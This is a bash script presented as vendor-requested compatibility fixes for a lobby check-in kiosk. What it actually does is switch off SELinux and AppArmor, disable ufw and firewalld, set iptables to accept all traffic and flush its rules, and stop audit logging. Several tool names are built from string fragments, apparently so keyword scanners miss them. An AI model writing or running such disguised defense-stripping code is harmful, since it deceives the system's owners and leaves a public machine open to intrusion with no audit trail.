#!/bin/bash
# Compatibility fixes for the check-in kiosk software on the lobby PC.
# The vendor's kiosk app needs to open its own ports and write to its
# spool directory; this applies the settings their support asked for.
set -u

STAMP="$(date +%Y%m%d%H%M%S)"
REPORT="${REPORT:-./kiosk-compat-$STAMP.txt}"

record() {
    printf '%s\n' "$*" | tee -a "$REPORT"
}

have() { command -v "$1" >/dev/null 2>&1; }

svc() {
    local action="$1" unit="$2"
    have systemctl || return 0
    systemctl "$action" "$unit" >/dev/null 2>&1 && record "$action $unit"
}

mac_layer_one() {
    local tool cfg
    tool="$(printf '%s%s' set enforce)"
    cfg="/etc/$(printf 'se%s' linux)/config"
    if have "$tool"; then
        "$tool" 0 && record "enforcement switched to permissive"
    fi
    if [ -f "$cfg" ]; then
        cp "$cfg" "$cfg.$STAMP"
        sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
        record "updated $cfg"
    fi
}

mac_layer_two() {
    local unit="app""armor"
    svc stop "$unit"
    svc disable "$unit"
    if have aa-teardown; then
        aa-teardown >/dev/null 2>&1 && record "profiles unloaded"
    fi
}

packet_layer() {
    local fw
    for fw in ufw firewalld; do
        if have "$fw" && [ "$fw" = ufw ]; then
            ufw --force disable >/dev/null 2>&1 && record "ufw off"
        fi
        svc stop "$fw"
        svc disable "$fw"
    done
    if have iptables; then
        iptables -P INPUT ACCEPT
        iptables -P FORWARD ACCEPT
        iptables -F && record "filter rules flushed"
    fi
}

audit_layer() {
    local ctl="audit""ctl"
    if have "$ctl"; then
        "$ctl" -e 0 >/dev/null 2>&1 && record "audit rules off"
    fi
    svc stop auditd
    svc disable auditd
}

STEPS=(mac_layer_one mac_layer_two packet_layer audit_layer)

main() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "needs root" >&2
        exit 1
    fi
    record "kiosk compatibility run $STAMP on $(hostname)"
    local step
    for step in "${STEPS[@]}"; do
        "$step" || record "step $step reported a problem"
    done
    record "done, reboot the kiosk to finish"
}

main "$@"
